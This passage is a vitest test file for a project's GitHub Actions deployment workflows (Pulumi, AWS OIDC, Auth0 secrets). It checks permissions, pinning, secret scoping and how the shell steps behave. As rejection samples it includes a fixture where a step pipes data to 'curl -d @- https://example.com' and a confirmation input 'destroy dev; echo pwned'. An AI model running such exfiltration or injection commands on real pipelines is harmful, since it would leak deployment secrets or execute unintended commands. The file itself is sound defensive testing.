/**
 * The delivery pipeline's workflows: valid for GitHub (its own parser and schema, offline), compliant
 * with the project's rules, and doing what the README promises — which job runs for which event,
 * in which environment, in which order, and what the shell steps really do when run with bash.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { load } from "js-yaml";
import { afterAll, describe, expect, it } from "vitest";
import { conditionHolds, interpolate, workflowSchemaErrors, type ExpressionContext } from "./github-actions-packages";
import { workflowRuleProblems, type LocalWorkflowReader } from "./workflow-rules";

const WORKFLOW_DIR = path.join(__dirname, "..", "..", ".github", "workflows");

interface Step {
  name?: string;
  shell?: string;
  id?: string;
  if?: string;
  uses?: string;
  run?: string;
  env?: Record<string, string>;
  with?: Record<string, unknown>;
}
interface Job {
  if?: string;
  name?: string;
  uses?: string;
  with?: Record<string, unknown>;
  secrets?: unknown;
  needs?: string | string[];
  environment?: string;
  permissions?: Record<string, string>;
  concurrency?: { group: string; "cancel-in-progress": boolean };
  env?: Record<string, string>;
  steps?: Step[];
}
interface Workflow {
  on: Record<string, unknown>;
  env?: Record<string, string>;
  permissions?: unknown;
  jobs: Record<string, Job>;
}

/** The `@pulumi/pulumi` release the program is locked to (package.json and package-lock.json agree: see below). */
const PULUMI_SDK_VERSION = String(
  (JSON.parse(readFileSync(path.join(WORKFLOW_DIR, "..", "..", "package.json"), "utf8")) as { dependencies: Record<string, string> })
    .dependencies["@pulumi/pulumi"],
);

function workflowText(file: string): string {
  return readFileSync(path.join(WORKFLOW_DIR, file), "utf8");
}

function workflow(file: string): Workflow {
  return load(workflowText(file)) as Workflow;
}

function job(file: string, id: string): Job {
  const found = workflow(file).jobs[id];
  if (found === undefined) throw new Error(`${file} has no job ${id}`);
  return found;
}

function stepsOf(file: string, id: string): Step[] {
  const steps = job(file, id).steps;
  if (steps === undefined) throw new Error(`${file} job ${id} has no steps`);
  return steps;
}

/** Reads `uses: ./.github/workflows/x.yml` from this repository, as GitHub resolves a local reusable workflow. */
const readLocalWorkflow: LocalWorkflowReader = (ref) => {
  const match = /^\.\/\.github\/workflows\/([\w.-]+\.ya?ml)$/.exec(ref);
  if (match?.[1] === undefined) return undefined;
  try {
    return workflowText(match[1]);
  } catch {
    return undefined;
  }
};

function stepIndex(steps: Step[], predicate: (step: Step) => boolean, what: string): number {
  const index = steps.findIndex(predicate);
  if (index < 0) throw new Error(`no step ${what}`);
  return index;
}

function step(steps: Step[], predicate: (step: Step) => boolean, what: string): Step {
  return steps[stepIndex(steps, predicate, what)] as Step;
}

const AUTH0 = ["AUTH0_DOMAIN", "AUTH0_CLIENT_ID", "AUTH0_CLIENT_SECRET"];
const PULUMI = ["PULUMI_ACCESS_TOKEN", "PULUMI_CONFIG_PASSPHRASE"];

/** Step name → the secrets its env and with receive, for the steps that receive any. */
function secretsByStep(steps: Step[]): Record<string, string[]> {
  const found: Record<string, string[]> = {};
  for (const s of steps) {
    const names = [...JSON.stringify([s.env ?? {}, s.with ?? {}]).matchAll(/secrets\.(\w+)/g)].map((match) => match[1] as string);
    if (names.length > 0) found[s.name ?? "(unnamed)"] = names;
  }
  return found;
}

const scratch = mkdtempSync(path.join(tmpdir(), "workflow-steps-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Runs a `run:` script as GitHub's ubuntu runner does (`bash --noprofile --norc -eo pipefail`). */
function runStep(script: string, env: Record<string, string>): { status: number | null; stdout: string; stderr: string } {
  const file = path.join(scratch, `step-${Math.random().toString(36).slice(2)}.sh`);
  writeFileSync(file, script);
  const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", file], {
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", ...env },
    encoding: "utf8",
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

async function jobsThatRun(file: string, context: ExpressionContext): Promise<string[]> {
  const running: string[] = [];
  for (const [id, candidate] of Object.entries(workflow(file).jobs)) {
    if (candidate.if === undefined || (await conditionHolds(candidate.if, context))) running.push(id);
  }
  return running;
}

const pushToMain = { github: { event_name: "push", ref: "refs/heads/main" }, inputs: {} };
const releasePublished = { github: { event_name: "release", ref: "refs/tags/v1.2.0" }, inputs: {} };
const dispatch = (stack: string): ExpressionContext => ({
  github: { event_name: "workflow_dispatch", ref: "refs/heads/main" },
  inputs: { stack },
});

describe("every workflow file", () => {
  const files = readdirSync(WORKFLOW_DIR).filter((file) => /\.ya?ml$/.test(file));

  it("includes the four the pipeline needs", () => {
    expect(files.sort()).toEqual(
      expect.arrayContaining([
        "ci.yml",
        "deploy-stack.yml",
        "deploy.yml",
        "destroy.yml",
        "drift.yml",
        "preview.yml",
        "read-only-stack.yml",
      ]),
    );
  });

  it.each(files)("%s passes GitHub's workflow schema", async (file) => {
    expect(await workflowSchemaErrors(file, workflowText(file))).toEqual([]);
  });

  it.each(files)("%s follows the project's rules (pinned actions, minimal permissions, ...)", (file) => {
    expect(workflowRuleProblems(file, workflowText(file), readLocalWorkflow)).toEqual([]);
  });

  it("never uses pull_request_target, which runs with the repository's secrets on a fork's pull request", () => {
    for (const file of files) expect(Object.keys(workflow(file).on), file).not.toContain("pull_request_target");
  });

  it("pins, wherever it installs the Pulumi CLI, the release of the @pulumi/pulumi the lockfile holds", () => {
    const lock = JSON.parse(readFileSync(path.join(WORKFLOW_DIR, "..", "..", "package-lock.json"), "utf8")) as {
      packages: Record<string, { version?: string }>;
    };
    expect(lock.packages["node_modules/@pulumi/pulumi"]?.version).toBe(PULUMI_SDK_VERSION);
    const installing = files.filter((file) => /uses: pulumi\/actions@/.test(workflowText(file)));
    expect(installing.sort()).toEqual(["deploy-stack.yml", "destroy.yml", "read-only-stack.yml"]);
    for (const file of installing) expect(workflow(file).env?.PULUMI_VERSION, file).toBe(PULUMI_SDK_VERSION);
  });
});

describe("the schema check rejects broken workflows", () => {
  const valid = `on: push
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo hello
`;

  it("accepts the valid sample the broken ones are made from", async () => {
    expect(await workflowSchemaErrors("sample.yml", valid)).toEqual([]);
  });

  it.each([
    ["a misspelt step key", valid.replace("- run: echo hello", "- rn: echo hello"), /Unexpected value 'rn'/],
    ["an unknown permission level", valid.replace("contents: read", "contents: writ"), /Unexpected value 'writ'/],
    ["a job without runs-on", valid.replace("    runs-on: ubuntu-24.04\n", ""), /runs-on/],
    [
      "a secret in an if: condition",
      valid.replace("- run: echo hello", "- run: echo hello\n        if: ${{ secrets.TOKEN != '' }}"),
      /Unrecognized named-value: 'secrets'/,
    ],
    [
      "needs: naming a job that does not exist",
      `${valid}  publish:\n    needs: compile\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo done\n`,
      /compile/,
    ],
  ])("rejects %s", async (_what, broken, message) => {
    const errors = await workflowSchemaErrors("broken.yml", broken);
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.join("\n")).toMatch(message);
  });
});

describe("the project's rules reject non-compliant workflows", () => {
  const checkout = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2";
  const compliant = `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
      id-token: write
    concurrency:
      group: pulumi-stack-dev
      cancel-in-progress: false
    steps:
      - uses: ${checkout}
      - uses: actions/setup-node@6044e13b5dc448c55e2357c09f80417699197238 # v6.2.0
        with:
          node-version-file: .node-version
      - uses: aws-actions/configure-aws-credentials@61815dcd50bd041e203e49132bacad1fd04d2708 # v5.1.1
        with:
          role-to-assume: \${{ vars.AWS_DEPLOY_ROLE_ARN }}
          aws-region: us-east-1
      - run: npm ci
      - run: npm run build
      - run: pulumi up --stack dev --yes
        env:
          AUTH0_CLIENT_SECRET: \${{ secrets.AUTH0_CLIENT_SECRET }}
          PULUMI_ACCESS_TOKEN: \${{ secrets.PULUMI_ACCESS_TOKEN }}
`;

  it("accepts the compliant sample the broken ones are made from", () => {
    expect(workflowRuleProblems("sample.yml", compliant)).toEqual([]);
  });

  it.each([
    [
      "an action pinned to a tag",
      compliant.replace(checkout, "actions/checkout@v6"),
      /actions\/checkout@v6 is not pinned to a full 40-character commit SHA/,
    ],
    ["a short SHA", compliant.replace(checkout, "actions/checkout@de0fac2 # v6.0.2"), /not pinned to a full 40-character commit SHA/],
    ["a SHA without its version comment", compliant.replace(" # v6.0.2", ""), /actions\/checkout needs a "# vX.Y.Z" comment/],
    ["no top-level permissions", compliant.replace("permissions: {}\n", ""), /no top-level permissions/],
    ["write-all", compliant.replace("permissions: {}", "permissions: write-all"), /grants every scope/],
    ["contents: write", compliant.replace("      contents: read", "      contents: write"), /job deploy grants contents: write/],
    [
      "id-token: write without an AWS role",
      compliant.replace(/ {6}- uses: aws-actions[\s\S]*?aws-region: us-east-1\n/, ""),
      /job deploy grants id-token: write without assuming an AWS role by OIDC/,
    ],
    [
      "long-lived AWS keys",
      compliant.replace("role-to-assume: ${{ vars.AWS_DEPLOY_ROLE_ARN }}", "aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}"),
      /long-lived AWS keys/,
    ],
    [
      "a Node version of its own",
      compliant.replace("node-version-file: .node-version", "node-version: 22"),
      /sets up Node "22"; use node-version-file: \.node-version/,
    ],
    [
      "another version file",
      compliant.replace("node-version-file: .node-version", "node-version-file: .nvmrc"),
      /sets up Node from "\.nvmrc"; use node-version-file: \.node-version/,
    ],
    ["npm install", compliant.replace("run: npm ci", "run: npm install"), /runs npm install; use npm ci/],
    ["npm run before npm ci", compliant.replace("      - run: npm ci\n", ""), /runs "npm run build" before npm ci/],
    ["pulumi without a per-stack group", compliant.replace("group: pulumi-stack-dev", "group: deploy"), /per-stack concurrency group/],
    ["a cancellable pulumi run", compliant.replace("cancel-in-progress: false", "cancel-in-progress: true"), /cancel-in-progress: false/],
    [
      "a secret in the job's env",
      compliant.replace("    steps:\n", "    env:\n      AUTH0_CLIENT_SECRET: ${{ secrets.AUTH0_CLIENT_SECRET }}\n    steps:\n"),
      /secret AUTH0_CLIENT_SECRET in job deploy's env reaches every step/,
    ],
    [
      "a secret in the workflow's env",
      compliant.replace("permissions: {}\n", "permissions: {}\nenv:\n  PULUMI_ACCESS_TOKEN: ${{ secrets.PULUMI_ACCESS_TOKEN }}\n"),
      /secret PULUMI_ACCESS_TOKEN in the workflow's env reaches every step of every job/,
    ],
    [
      "a secret given to npm ci",
      compliant.replace(
        "      - run: npm ci\n",
        "      - run: npm ci\n        env:\n          PULUMI_CONFIG_PASSPHRASE: ${{ secrets.PULUMI_CONFIG_PASSPHRASE }}\n",
      ),
      /job deploy step \d+ receives secret PULUMI_CONFIG_PASSPHRASE, which it does not need/,
    ],
    [
      "a secret the step's command does not use",
      compliant.replace(
        "          AUTH0_CLIENT_SECRET:",
        "          SMOKE_TEST_PHONE: ${{ secrets.SMOKE_TEST_PHONE }}\n          AUTH0_CLIENT_SECRET:",
      ),
      /receives secret SMOKE_TEST_PHONE, which it does not need/,
    ],
    [
      "a secret behind a second command line",
      compliant.replace(
        "      - run: pulumi up --stack dev --yes\n",
        "      - run: |\n          pulumi up --stack dev --yes\n          curl -d @- https://example.com\n",
      ),
      /receives secret AUTH0_CLIENT_SECRET, which it does not need/,
    ],
    [
      "a secret handed to an action",
      compliant.replace(
        "          node-version-file: .node-version\n",
        "          node-version-file: .node-version\n          token: ${{ secrets.PULUMI_ACCESS_TOKEN }}\n",
      ),
      /hands secret PULUMI_ACCESS_TOKEN to actions\/setup-node/,
    ],
    [
      "pull-requests: write next to actions and npm",
      compliant.replace("      contents: read\n", "      contents: read\n      pull-requests: write\n"),
      /job deploy grants pull-requests: write to a job that runs an action, npm or pulumi/,
    ],
    [
      "a preview-only job in the stack's group",
      compliant.replace("run: pulumi up --stack dev --yes", "run: pulumi preview --stack dev --diff"),
      /job deploy only previews but joins pulumi-stack-dev: a queued preview would cancel a deployment pending in that group/,
    ],
    [
      "a secret written into a script",
      compliant.replace(
        "run: pulumi up --stack dev --yes",
        "run: pulumi up --stack dev --yes --secrets-provider '${{ secrets.PULUMI_CONFIG_PASSPHRASE }}'",
      ),
      /writes secret PULUMI_CONFIG_PASSPHRASE into its script/,
    ],
  ])("rejects %s", (_what, broken, message) => {
    expect(workflowRuleProblems("broken.yml", broken).join("\n")).toMatch(message);
  });
});

describe("the project's rules follow a job into the local reusable workflow it calls", () => {
  const caller = `on: push
permissions: {}
jobs:
  deploy:
    permissions:
      contents: read
      id-token: write
    uses: ./.github/workflows/deploy-stack.yml
`;
  const withoutRole = `on: workflow_call
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    steps:
      - run: echo no role assumed
`;

  it("accepts id-token: write for a job whose called workflow assumes the AWS role", () => {
    expect(workflowRuleProblems("caller.yml", caller, readLocalWorkflow)).toEqual([]);
  });

  it.each([
    ["the called workflow assumes no role", () => withoutRole, /job deploy grants id-token: write without assuming an AWS role by OIDC/],
    [
      "the called workflow does not exist",
      () => undefined,
      /job deploy calls \.\/\.github\/workflows\/deploy-stack\.yml, which cannot be read/,
    ],
  ])("rejects id-token: write when %s", (_what, reader: LocalWorkflowReader, message) => {
    expect(workflowRuleProblems("caller.yml", caller, reader).join("\n")).toMatch(message);
  });
});

describe("ci.yml", () => {
  it("runs on pull requests and pushes", () => {
    expect(Object.keys(workflow("ci.yml").on).sort()).toEqual(["pull_request", "push"]);
  });

  it("installs exactly, tests, builds and plans dev and prod offline, in that order", () => {
    const runs = stepsOf("ci.yml", "test").flatMap((s) => (s.run === undefined ? [] : [s.run.trim()]));
    expect(runs).toEqual(["npm ci", "npm test", "npm run build", "npm run plan -- --stack dev", "npm run plan -- --stack prod"]);
  });

  it("needs no cloud credentials: no secrets, no OIDC token", () => {
    expect(workflowText("ci.yml")).not.toMatch(/secrets\.|vars\.|id-token/);
  });
});

describe("deploy.yml and the deploy-stack.yml it calls", () => {
  const CALLED = "./.github/workflows/deploy-stack.yml";
  const deployStack = job("deploy-stack.yml", "deploy");
  const stackSteps = stepsOf("deploy-stack.yml", "deploy");
  /** What deploy-stack.yml's expressions see when deploy.yml's job `id` calls it. */
  function calledWith(id: string): ExpressionContext {
    return { github: { event_name: "workflow_call", run_id: "42" }, inputs: job("deploy.yml", id).with ?? {} };
  }

  it.each([
    ["a push to main", pushToMain, ["staging"]],
    ["a published release", releasePublished, ["production"]],
    ["a manual run for prod", dispatch("prod"), ["production"]],
    ["a manual run for dev", dispatch("dev"), ["staging"]],
  ])("%s deploys %j", async (_event, context, expected) => {
    expect(await jobsThatRun("deploy.yml", context)).toEqual(expected);
  });

  it("deploys staging only from main", () => {
    expect(workflow("deploy.yml").on.push).toEqual({ branches: ["main"] });
  });

  it("keeps the steps in one place: both jobs call deploy-stack.yml, passing the environment's secrets on", () => {
    for (const id of ["staging", "production"]) {
      const caller = job("deploy.yml", id);
      expect(caller.uses).toBe(CALLED);
      expect(caller.secrets).toBe("inherit");
      expect(caller.steps).toBeUndefined();
      expect(caller.permissions).toEqual({ contents: "read", "id-token": "write" });
    }
    expect(Object.keys(workflow("deploy-stack.yml").on)).toEqual(["workflow_call"]);
    expect(workflow("deploy-stack.yml").on.workflow_call).toMatchObject({
      inputs: {
        stack: { type: "string", required: true },
        environment: { type: "string", required: true },
        "smoke-send": { type: "boolean", default: false },
      },
    });
    expect(deployStack.permissions).toEqual({ contents: "read", "id-token": "write" });
  });

  it.each([
    ["staging", "staging", "dev"],
    ["production", "production", "prod"],
  ])("job %s runs in the %s environment on stack %s, one run per stack at a time", async (id, environment, stack) => {
    const context = calledWith(id);
    expect(await interpolate(deployStack.environment ?? "", context)).toBe(environment);
    expect(await interpolate(deployStack.env?.STACK ?? "", context)).toBe(stack);
    expect(await interpolate(deployStack.concurrency?.group ?? "", context)).toBe(`pulumi-stack-${stack}`);
    expect(deployStack.concurrency?.["cancel-in-progress"]).toBe(false);
    const destroyGroup = job("destroy.yml", "destroy").concurrency?.group ?? "";
    expect(await interpolate(destroyGroup, dispatch(stack))).toBe(`pulumi-stack-${stack}`);
    // One group per stack: the caller does not hold it too (a caller and its called job in the same group wait for each other).
    expect(job("deploy.yml", id).concurrency).toBeUndefined();
  });

  it("previews, then updates, after assuming the AWS role in a session named after the stack", async () => {
    const role = stepIndex(stackSteps, (s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@") === true, "assuming the role");
    const preview = stepIndex(stackSteps, (s) => /^pulumi preview --stack "\$STACK"/.test(s.run ?? ""), "running pulumi preview");
    const up = stepIndex(stackSteps, (s) => /^pulumi up --stack "\$STACK" --yes/.test(s.run ?? ""), "running pulumi up");
    expect(role).toBeLessThan(preview);
    expect(preview).toBeLessThan(up);
    const roleInputs = stackSteps[role]?.with ?? {};
    expect(roleInputs["role-to-assume"]).toBe("${{ vars.AWS_DEPLOY_ROLE_ARN }}");
    expect(await interpolate(String(roleInputs["role-session-name"]), calledWith("production"))).toBe("auth0-sns-mfa-prod-42");
  });

  it("pins the Pulumi CLI in the called workflow itself (a caller's workflow-level env is not passed on)", () => {
    expect(workflow("deploy-stack.yml").env?.PULUMI_VERSION).toBe(PULUMI_SDK_VERSION);
    const cli = step(stackSteps, (s) => s.uses?.startsWith("pulumi/actions@") === true, "installing the Pulumi CLI");
    expect(cli.with?.["pulumi-version"]).toBe("${{ env.PULUMI_VERSION }}");
  });

  it("gives each secret only to the steps that need it: none to npm ci, the build or any action", () => {
    expect(deployStack.env).toEqual({ STACK: "${{ inputs.stack }}", PULUMI_BACKEND_URL: "${{ vars.PULUMI_BACKEND_URL }}" });
    expect(secretsByStep(stackSteps)).toEqual({
      "Preflight (npm run doctor)": [...AUTH0, ...PULUMI],
      "pulumi preview": [...AUTH0, ...PULUMI],
      "pulumi up": [...AUTH0, ...PULUMI],
      "Is a smoke-test number set?": ["SMOKE_TEST_PHONE"],
      "Smoke send (npm run send-test)": ["SMOKE_TEST_PHONE", ...PULUMI],
    });
    // Each receives the secret of the same name, from the environment's secrets.
    for (const s of stackSteps) {
      for (const [name, value] of Object.entries(s.env ?? {}))
        if (value.includes("secrets.")) expect(value).toBe(`\${{ secrets.${name} }}`);
    }
  });

  it("never runs pulumi login, which would leave the access token on disk for every later step", () => {
    expect(stackSteps.some((s) => /pulumi login/.test(s.run ?? ""))).toBe(false);
  });

  describe("the preflight (npm run doctor)", () => {
    const doctor = step(stackSteps, (s) => /npm run --silent doctor/.test(s.run ?? ""), "running the doctor");

    it("runs for the stack after the AWS role is assumed and before pulumi preview and up, its report going to the run's summary", () => {
      const at = stackSteps.indexOf(doctor);
      expect(at).toBeGreaterThan(
        stepIndex(stackSteps, (s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@") === true, "role"),
      );
      expect(at).toBeLessThan(stepIndex(stackSteps, (s) => /^pulumi preview/.test(s.run ?? ""), "preview"));
      expect(at).toBeLessThan(stepIndex(stackSteps, (s) => /^pulumi up/.test(s.run ?? ""), "up"));
      expect(doctor.run?.trim()).toBe('npm run --silent doctor -- --stack "$STACK" | tee -a "$GITHUB_STEP_SUMMARY"');
      // GitHub runs `shell: bash` as `bash --noprofile --norc -eo pipefail {0}`; without it, `bash -e {0}`
      // and tee's exit code would hide a failed check.
      // https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsshell
      expect(doctor.shell).toBe("bash");
    });

    it.each([
      [0, "pass  aws.identity  the deploy role is calling\nwarn  aws.spend-limit  1 USD a month"],
      [1, "fail  aws.sandbox  the account is in the SMS sandbox"],
      [2, "error: --stack needs a value"],
    ])("exit %i of the doctor is the step's exit (a fail stops the job), its lines in the summary", (code, report) => {
      const bin = mkdtempSync(path.join(scratch, "bin-"));
      const argsFile = path.join(bin, "args");
      // A stand-in for npm that prints a report and exits as the doctor would.
      writeFileSync(path.join(bin, "report"), `${report}\n`);
      writeFileSync(path.join(bin, "npm"), `#!/bin/sh\necho "$@" > "${argsFile}"\ncat "${bin}/report"\nexit ${code}\n`, { mode: 0o755 });
      const summary = path.join(bin, "summary.md");
      writeFileSync(summary, "### Earlier step\n");
      const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", doctor.run ?? ""], {
        env: { PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}`, STACK: "prod", GITHUB_STEP_SUMMARY: summary },
        encoding: "utf8",
      });
      expect(result.status).toBe(code);
      expect(readFileSync(argsFile, "utf8").trim()).toBe("run --silent doctor -- --stack prod");
      expect(readFileSync(summary, "utf8")).toBe(`### Earlier step\n${report}\n`);
      expect(result.stdout).toBe(`${report}\n`);
    });
  });

  describe("the smoke send (staging only)", () => {
    const probe = step(stackSteps, (s) => s.id === "smoke", "with id smoke");
    const send = step(stackSteps, (s) => /npm run send-test/.test(s.run ?? ""), "running send-test");
    const skipped = step(stackSteps, (s) => /Smoke send skipped[\s\S]*GITHUB_STEP_SUMMARY/.test(s.run ?? ""), "writing the skip summary");

    function probeOutput(phone: string): string {
      const output = path.join(scratch, `output-${Math.random().toString(36).slice(2)}`);
      writeFileSync(output, "");
      const result = runStep(probe.run ?? "", { SMOKE_TEST_PHONE: phone, GITHUB_OUTPUT: output });
      expect(result.status).toBe(0);
      return readFileSync(output, "utf8");
    }

    /** Which of probe / send / skipped run for deploy.yml's job `id`, given the probe's answer. */
    async function smokeStepsThatRun(id: string, configured: string): Promise<string[]> {
      const context = { ...calledWith(id), steps: { smoke: { outputs: { configured } } } };
      const running: string[] = [];
      for (const [what, candidate] of [
        ["probe", probe],
        ["send", send],
        ["skipped", skipped],
      ] as const) {
        if (await conditionHolds(candidate.if ?? "true", context)) running.push(what);
      }
      return running;
    }

    it("comes after pulumi up", () => {
      expect(stackSteps.indexOf(send)).toBeGreaterThan(stepIndex(stackSteps, (s) => /^pulumi up/.test(s.run ?? ""), "pulumi up"));
      expect(stackSteps.indexOf(probe)).toBeGreaterThan(stepIndex(stackSteps, (s) => /^pulumi up/.test(s.run ?? ""), "pulumi up"));
    });

    it("sends one SMS to the secret's number on the dev stack when the secret is set", async () => {
      expect(probe.env?.SMOKE_TEST_PHONE).toBe("${{ secrets.SMOKE_TEST_PHONE }}");
      expect(probeOutput("+12065550100")).toBe("configured=true\n");
      expect(await smokeStepsThatRun("staging", "true")).toEqual(["probe", "send"]);
      expect(send.run).toBe('npm run send-test -- --stack "$STACK" --to "$SMOKE_TEST_PHONE"');
      expect(send.env?.SMOKE_TEST_PHONE).toBe("${{ secrets.SMOKE_TEST_PHONE }}");
    });

    it("is skipped, and says so in the run's summary, when the secret is not set", async () => {
      expect(probeOutput("")).toBe("configured=false\n");
      expect(await smokeStepsThatRun("staging", "false")).toEqual(["probe", "skipped"]);

      const summary = path.join(scratch, "summary.md");
      writeFileSync(summary, "");
      const environment = await interpolate(skipped.env?.DEPLOY_ENVIRONMENT ?? "", calledWith("staging"));
      const result = runStep(skipped.run ?? "", { GITHUB_STEP_SUMMARY: summary, DEPLOY_ENVIRONMENT: environment });
      expect(result.status).toBe(0);
      expect(readFileSync(summary, "utf8")).toMatch(
        /Smoke send skipped[\s\S]*No SMOKE_TEST_PHONE secret is set in the staging environment/,
      );
      expect(result.stdout).toMatch(/::notice title=Smoke send skipped::SMOKE_TEST_PHONE is not set in the staging environment/);
    });

    it.each(["true", "false", ""])("never runs for production (probe answer %j): no SMS, no skip summary", async (configured) => {
      expect(await smokeStepsThatRun("production", configured)).toEqual([]);
    });
  });
});

describe("destroy.yml", () => {
  const confirmScript = step(stepsOf("destroy.yml", "confirm"), (s) => s.run !== undefined, "with a script").run ?? "";

  it("runs only when started by hand, with a stack choice and a typed confirmation", () => {
    const on = workflow("destroy.yml").on;
    expect(Object.keys(on)).toEqual(["workflow_dispatch"]);
    expect(on.workflow_dispatch).toMatchObject({
      inputs: {
        stack: { type: "choice", options: ["dev", "prod"], required: true },
        confirmation: { type: "string", required: true },
      },
    });
  });

  it.each([
    ["dev", "destroy dev", 0],
    ["prod", "destroy prod", 0],
    ["prod", "destroy dev", 1],
    ["dev", "dev", 1],
    ["prod", "", 1],
    ["dev", "destroy dev; echo pwned", 1],
  ])("stack %s with confirmation %j exits %i", (stack, confirmation, status) => {
    const result = runStep(confirmScript, { STACK: stack, CONFIRMATION: confirmation });
    expect(result.status).toBe(status);
    if (status !== 0) expect(result.stdout).toContain(`::error title=Not confirmed::Type exactly "destroy ${stack}"`);
    expect(result.stdout).not.toContain("pwned\n");
  });

  it("gives the secrets only to the pulumi destroy step", () => {
    expect(job("destroy.yml", "destroy").env).toEqual({
      STACK: "${{ inputs.stack }}",
      PULUMI_BACKEND_URL: "${{ vars.PULUMI_BACKEND_URL }}",
    });
    expect(secretsByStep(stepsOf("destroy.yml", "destroy"))).toEqual({ "pulumi destroy": [...AUTH0, ...PULUMI] });
    expect(secretsByStep(stepsOf("destroy.yml", "confirm"))).toEqual({});
  });

  it("destroys only after the confirmation job, in the stack's own environment", async () => {
    const destroy = job("destroy.yml", "destroy");
    expect(destroy.needs).toBe("confirm");
    expect(await interpolate(destroy.environment ?? "", dispatch("prod"))).toBe("production");
    expect(await interpolate(destroy.environment ?? "", dispatch("dev"))).toBe("staging");
    expect(step(stepsOf("destroy.yml", "destroy"), (s) => /pulumi destroy/.test(s.run ?? ""), "destroying").run).toBe(
      'pulumi destroy --stack "$STACK" --yes --non-interactive',
    );
  });
});

/** A condition as GitHub evaluates it in a run that was not cancelled (the evaluator here has no status functions). */
function notCancelled(condition: string): string {
  return condition.replace(/\bcancelled\(\)/g, "false");
}

/** The secrets a caller job hands to the reusable workflow it calls, by the called workflow's name. */
function secretsPassed(caller: Job): Record<string, string> {
  const passed = caller.secrets;
  if (passed === undefined || typeof passed !== "object" || passed === null) throw new Error("the job passes no secrets by name");
  return passed as Record<string, string>;
}

/** The deploy identities: the environments' secrets and the deploy role. */
const DEPLOY_SECRET_REFERENCES = [...AUTH0, ...PULUMI].map((name) => `\${{ secrets.${name} }}`);

/** Runs `script` with a stand-in `gh` that records its arguments and the comment body, failing with `ghStatus`. */
function runWithFakeGh(
  script: string,
  env: Record<string, string>,
  ghStatus = 0,
): { status: number | null; stdout: string; calls: string[] } {
  const bin = mkdtempSync(path.join(scratch, "gh-"));
  const calls = path.join(bin, "calls");
  writeFileSync(calls, "");
  const gh = `#!/bin/sh
echo "$*" >> "${calls}"
case "$1 $2" in
  "api repos/acme/mfa/deployments?environment=staging&per_page=1") echo 0123456789abcdef0123456789abcdef01234567 ;;
  "api "*) echo "" ;;
esac
exit ${ghStatus}
`;
  writeFileSync(path.join(bin, "gh"), gh, { mode: 0o755 });
  const result = runStep(script, { ...env, PATH: `${bin}:${process.env.PATH ?? "/usr/bin:/bin"}` });
  return { status: result.status, stdout: result.stdout, calls: readFileSync(calls, "utf8").trim().split("\n").filter(Boolean) };
}

describe("preview.yml and the read-only-stack.yml it calls", () => {
  const CALLED = "./.github/workflows/read-only-stack.yml";
  const readOnly = job("read-only-stack.yml", "preview");
  const readOnlySteps = stepsOf("read-only-stack.yml", "preview");
  const sameRepository = {
    github: {
      event_name: "pull_request",
      repository: "acme/mfa",
      event: { pull_request: { number: 7, head: { repo: { full_name: "acme/mfa" } } } },
    },
  };
  const fromFork = {
    github: {
      event_name: "pull_request",
      repository: "acme/mfa",
      event: { pull_request: { number: 8, head: { repo: { full_name: "someone/mfa" } } } },
    },
  };
  /** What read-only-stack.yml's expressions see when `file`'s job `id` calls it. */
  function calledFrom(file: string, id: string): ExpressionContext {
    return {
      github: { event_name: "workflow_call", run_id: "42", ref: "refs/pull/7/merge" },
      inputs: { refresh: false, ...job(file, id).with },
    };
  }
  const previewStep = step(readOnlySteps, (s) => /^pulumi preview .*--diff/.test(s.run ?? ""), "running pulumi preview --diff");
  const driftStep = step(readOnlySteps, (s) => /^pulumi preview .*--refresh/.test(s.run ?? ""), "running pulumi preview --refresh");

  it("runs on pull requests only", () => {
    expect(Object.keys(workflow("preview.yml").on)).toEqual(["pull_request"]);
  });

  it.each([
    ["a pull request from a branch of this repository", sameRepository, ["dev", "prod", "comment"]],
    ["a pull request from a fork", fromFork, ["fork"]],
  ])("%s runs %j", async (_what, context, expected) => {
    const running: string[] = [];
    for (const [id, candidate] of Object.entries(workflow("preview.yml").jobs)) {
      if (candidate.if === undefined || (await conditionHolds(notCancelled(candidate.if), context))) running.push(id);
    }
    expect(running).toEqual(expected);
  });

  it("a fork's pull request is told, in a notice and the summary, why it has no preview", () => {
    const summary = path.join(scratch, "fork-summary.md");
    writeFileSync(summary, "");
    const result = runStep(stepsOf("preview.yml", "fork")[0]?.run ?? "", { GITHUB_STEP_SUMMARY: summary });
    expect(result.status).toBe(0);
    expect(readFileSync(summary, "utf8")).toMatch(
      /^### pulumi preview skipped\nThis pull request comes from a fork: GitHub gives it no secrets/,
    );
    expect(result.stdout).toMatch(/^::notice title=pulumi preview skipped::pull requests from forks get no secrets/);
    expect(job("preview.yml", "fork").permissions).toEqual({});
  });

  it.each(["dev", "prod"])(
    "previews %s with --diff, with the stack's read-only role and read-only Auth0 application, no deploy secret",
    async (stack) => {
      const caller = job("preview.yml", stack);
      const upper = stack.toUpperCase();
      expect(caller.uses).toBe(CALLED);
      expect(caller.with).toMatchObject({ stack, "aws-role-arn": `\${{ vars.AWS_READ_ONLY_ROLE_ARN_${upper} }}` });
      expect(secretsPassed(caller)).toEqual({
        AUTH0_DOMAIN: `\${{ secrets.AUTH0_DOMAIN_${upper} }}`,
        AUTH0_CLIENT_ID: `\${{ secrets.AUTH0_READ_ONLY_CLIENT_ID_${upper} }}`,
        AUTH0_CLIENT_SECRET: `\${{ secrets.AUTH0_READ_ONLY_CLIENT_SECRET_${upper} }}`,
